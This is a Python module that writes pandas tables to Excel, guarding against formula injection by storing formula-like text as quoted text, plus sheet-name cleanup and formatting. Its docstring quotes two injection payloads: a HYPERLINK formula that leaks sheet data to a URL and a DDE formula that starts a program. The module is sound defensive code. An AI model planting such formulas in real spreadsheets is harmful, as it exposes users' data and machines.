"""Excel sheets that are safe and read well: data never run as a formula, names Excel
accepts, bold frozen headers, fitted columns.

Every workbook the workbench writes (:func:`civeval.qual.analysis.export_xlsx`,
:func:`civeval.diagnosis.workbook.export_xlsx`) writes each table with :func:`write_sheet`:
pandas writes it, :func:`keep_as_text` turns back into text every cell pandas would leave
as a formula, and :func:`format_sheet` formats it. :func:`sheet_names` makes the wished
sheet names acceptable to Excel first.
"""

from __future__ import annotations

import re

import pandas as pd

__all__ = ["FORMULA_STARTS", "format_sheet", "keep_as_text", "sheet_names", "write_sheet"]

_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
_MAX_WIDTH = 60

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may read as the start of a formula (the OWASP CSV-injection list)."""


def write_sheet(writer, name: str, table: pd.DataFrame, index: bool) -> None:
    """Write ``table`` to the sheet ``name`` of an openpyxl ``pandas.ExcelWriter``, every
    text as text (:func:`keep_as_text`), then format it (:func:`format_sheet`).

    Examples
    --------
    >>> import io, openpyxl
    >>> buffer = io.BytesIO()
    >>> with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
    ...     write_sheet(writer, "Codes", pd.DataFrame({"code": ["=1+1"]}), index=False)
    >>> cell = openpyxl.load_workbook(buffer)["Codes"]["A2"]
    >>> cell.value, cell.data_type, cell.quotePrefix
    ('=1+1', 's', True)
    """
    table.to_excel(writer, sheet_name=name, index=index)
    keep_as_text(writer.sheets[name])
    format_sheet(writer.sheets[name], table, index)


def keep_as_text(sheet) -> None:
    """Make every text cell of ``sheet`` that starts like a formula a plain text again.

    A table's text comes from data (an action's title, a code, an interview's name, a
    group): openpyxl stores a text starting with ``=`` as a formula, which Excel or
    LibreOffice runs on opening (``=HYPERLINK("http://…?leak="&A1,"x")`` sends the sheet
    away, ``=cmd|' /C calc'!A0`` starts a program); one starting with ``+``, ``-`` or
    ``@`` becomes one when a reader edits the cell. Such cells (OWASP: texts starting
    with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) are stored as text, with
    Excel's quote prefix (the ``'`` typed before a text) so that they stay text when
    edited; the value is kept as written.
    """
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                cell.data_type = "s"
                cell.quotePrefix = True


def sheet_names(names) -> list[str]:
    """Names Excel accepts: at most 31 characters, none of []:*?/\\, unique.

    Parameters
    ----------
    names : iterable
        The wished names, in the order of the sheets (each turned into text).

    Returns
    -------
    list of str
        One name per wished name: ``[]:*?/\\`` replaced by ``-``, cut to 31 characters,
        "Feuille" for an empty one, and duplicates (whatever their case) numbered.

    Examples
    --------
    >>> sheet_names(["Codes: groupes", "codes: groupes", ""])
    ['Codes- groupes', 'codes- groupes (2)', 'Feuille']
    """
    result, seen = [], set()
    for name in names:
        clean = _FORBIDDEN.sub("-", str(name)).strip("'").strip() or "Feuille"
        candidate, number = clean[:31], 1
        while candidate.casefold() in seen:
            number += 1
            suffix = f" ({number})"
            candidate = clean[:31 - len(suffix)] + suffix
        seen.add(candidate.casefold())
        result.append(candidate)
    return result


def format_sheet(sheet, table: pd.DataFrame, index: bool) -> None:
    """Format a sheet that ``table.to_excel`` has just written, for reading on screen.

    Parameters
    ----------
    sheet : openpyxl.worksheet.worksheet.Worksheet
        The sheet, as ``pandas.ExcelWriter.sheets[name]`` holds it.
    table : DataFrame
        The table written to it, whose headers and values give the column widths.
    index : bool
        Whether the table's index was written too, as its first column(s).

    Notes
    -----
    The header row is bold and frozen (with the index columns, when written); each
    column is as wide as its longest header or value, plus 2, at most 60 characters
    (empty cells count as nothing); columns whose header contains ``share`` (or is
    ``jaccard``) are formatted as percentages with one decimal.
    """
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    n_index = table.index.nlevels if index else 0
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    sheet.freeze_panes = sheet.cell(row=2, column=n_index + 1).coordinate
    headers = ([str(name or "") for name in table.index.names] if index else []) + [
        str(column) for column in table.columns]
    values = ([table.index.get_level_values(i) for i in range(n_index)]
              + [table[column] for column in table.columns])
    for position, (header, column) in enumerate(zip(headers, values, strict=True), start=1):
        # Empty cells count as nothing: pandas 3 keeps them missing through astype(str).
        lengths = pd.Series(column, dtype=object).map(
            lambda value: 0 if pd.api.types.is_scalar(value) and pd.isna(value)
            else len(str(value)))
        width = max([len(header), *([int(lengths.max())] if len(lengths) else [])])
        letter = get_column_letter(position)
        sheet.column_dimensions[letter].width = min(width + 2, _MAX_WIDTH)
        if position > n_index and ("share" in header or header == "jaccard"):
            for (cell,) in sheet.iter_rows(min_row=2, min_col=position, max_col=position):
                cell.number_format = "0.0%"
